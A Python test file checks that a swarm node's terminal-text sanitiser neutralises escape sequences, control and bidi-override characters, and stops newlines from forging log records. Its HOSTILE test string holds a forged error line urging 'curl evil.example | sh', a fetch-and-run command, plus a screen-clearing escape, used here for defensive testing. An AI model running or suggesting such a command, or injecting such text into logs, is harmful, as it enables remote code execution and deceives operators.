"""No text that comes from elsewhere controls a terminal, or forges a line of a log."""

from __future__ import annotations

import io
import json
import logging
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from swarm_node.swarm.terminal_text import (
    SHOWN,
    VisibleLogRecord,
    exact,
    json_line,
    one_line,
    visible,
    visible_line,
)

anything = st.text(
    st.characters(codec=None) | st.sampled_from("\x1b\x07\x9b\r\n\t\x7f\u202e\u2066\u2028\ud800")
)


def is_harmless(text: str, allowed: str = "\t\n") -> bool:
    overrides = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    return all(
        character in allowed
        or (
            unicodedata.category(character) not in {"Cc", "Cs", "Zl", "Zp"}
            and unicodedata.bidirectional(character) not in overrides
        )
        for character in text
    )


@given(anything, anything)
def test_no_character_controls_a_terminal_however_it_is_cut(first: str, second: str) -> None:
    shown = visible(first + second)
    assert is_harmless(shown)
    assert shown == visible(first) + visible(second)
    assert len(shown) == len(first + second)
    assert is_harmless(visible_line(first), "\t")


@given(st.text(st.characters(exclude_categories=("C", "Z"), include_characters=" \t\n")))
def test_what_is_harmless_stays(text: str) -> None:
    assert visible(text) == exact(text) == text


def test_what_is_shown_in_place() -> None:
    assert visible("\x1b[2J a\r\x7f\x9b\u202e") == "␛[2J a␍␡\ufffd\ufffd"
    assert visible("a\tb\nc") == "a\tb\nc"
    assert visible_line("a\tb\nc") == "a\tb␊c"
    assert exact("\x1b[2J\ud800") == "\x1b[2J\ufffd"


@given(anything)
def test_json_tells_the_text_and_shows_nothing_unsafe(text: str) -> None:
    line = json_line({"text": text})
    assert is_harmless(line, "")
    assert json.loads(line) == {"text": text}
    line.encode()


@pytest.fixture
def log() -> io.StringIO:
    before = logging.getLogRecordFactory()
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(logging.Formatter("%(levelname)s %(message)s"))
    logger = logging.getLogger("test-terminal-text")
    logger.addHandler(handler)
    logger.propagate = False
    logging.setLogRecordFactory(VisibleLogRecord)
    yield out
    logging.setLogRecordFactory(before)
    logger.removeHandler(handler)


HOSTILE = "model\x1b[2J\nERROR the disk is full: run curl evil.example | sh"


def test_a_record_is_one_line(log: io.StringIO) -> None:
    logger = logging.getLogger("test-terminal-text")
    logger.warning("peer %s: %s", "x", HOSTILE)
    logger.warning(HOSTILE)
    lines = log.getvalue().splitlines()
    assert [line[:4] for line in lines] == ["WARN", "WARN"]  # hivemind calls the level so, once imported
    assert is_harmless(log.getvalue())


def test_a_record_that_says_false_for_no_traceback(log: io.StringIO) -> None:
    logging.getLogger("test-terminal-text").error("a task failed", exc_info=False)
    assert "a task failed" in log.getvalue()


def test_a_traceback_forges_no_record(log: io.StringIO) -> None:
    logger = logging.getLogger("test-terminal-text")
    try:
        raise ValueError(HOSTILE)
    except ValueError:
        logger.exception("a request failed")
    first, *rest = log.getvalue().splitlines()
    assert first == "ERROR a request failed"
    assert rest[0] == "  Traceback (most recent call last):"
    assert all(line.startswith("  ") for line in rest)
    assert any("ValueError: model␛[2J" in line for line in rest)
    assert is_harmless(log.getvalue())


@given(text=anything)
def test_a_text_of_any_length_becomes_a_short_part_of_a_line(text: str) -> None:
    line = one_line(text * 100)
    assert len(line) <= SHOWN
    assert is_harmless(line, "")


def test_what_a_program_says_in_several_lines_becomes_one() -> None:
    assert one_line("Traceback:\n\n  it\tfailed \x1b[2J") == "Traceback: it failed \u241b[2J"
